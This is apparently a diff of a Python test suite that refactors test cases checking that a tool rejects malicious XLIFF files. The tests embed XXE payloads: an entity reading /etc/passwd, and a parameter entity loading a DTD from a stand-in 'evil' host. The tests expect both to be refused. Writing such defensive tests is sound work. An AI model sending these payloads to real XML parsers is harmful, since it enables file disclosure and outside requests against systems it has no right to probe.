@@ -17,6 +17,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import stat
 import sys
 from collections.abc import Callable
@@ -431,36 +432,27 @@ def _laughs(root: Path) -> Case:
     return Case("xliff-billion-laughs", (name,), 2, r"laughs\.xlf: entity declarations are not allowed", names=name, run="own")
 
 
+def _refused_doctype(root: Path, case_id: str, filename: str, doctype: str, target: str = "y") -> Case:
+    """An XLIFF file whose DOCTYPE declares entities: refused before anything is resolved."""
+    text = (
+        f'<?xml version="1.0"?>\n{doctype}\n'
+        f'{_XLIFF_HEAD}<trans-unit id="1"><source>x</source><target>{target}</target></trans-unit>{_XLIFF_TAIL}'
+    )
+    name = write(root, filename, text)
+    pattern = re.escape(filename) + ": (entity declarations|external references) are not allowed"
+    return Case(case_id, (name,), 2, pattern, names=name)
+
+
 @case("xliff-external-entity")
 def _xxe(root: Path) -> Case:
-    text = (
-        '<?xml version="1.0"?>\n<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
-        f'{_XLIFF_HEAD}<trans-unit id="1"><source>x</source><target>&xxe;</target></trans-unit>{_XLIFF_TAIL}'
-    )
-    name = write(root, "xxe.xlf", text)
-    return Case(
-        "xliff-external-entity",
-        (name,),
-        2,
-        r"xxe\.xlf: (entity declarations|external references) are not allowed",
-        names=name,
-    )
+    doctype = '<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    return _refused_doctype(root, "xliff-external-entity", "xxe.xlf", doctype, target="&xxe;")
 
 
 @case("xliff-parameter-entity")
 def _xxe_parameter(root: Path) -> Case:
-    text = (
-        '<?xml version="1.0"?>\n<!DOCTYPE xliff [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>\n'
-        f'{_XLIFF_HEAD}<trans-unit id="1"><source>x</source><target>y</target></trans-unit>{_XLIFF_TAIL}'
-    )
-    name = write(root, "param.xlf", text)
-    return Case(
-        "xliff-parameter-entity",
-        (name,),
-        2,
-        r"param\.xlf: (entity declarations|external references) are not allowed",
-        names=name,
-    )
+    doctype = '<!DOCTYPE xliff [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>'
+    return _refused_doctype(root, "xliff-parameter-entity", "param.xlf", doctype)
 
 
 @case("xliff-external-dtd")
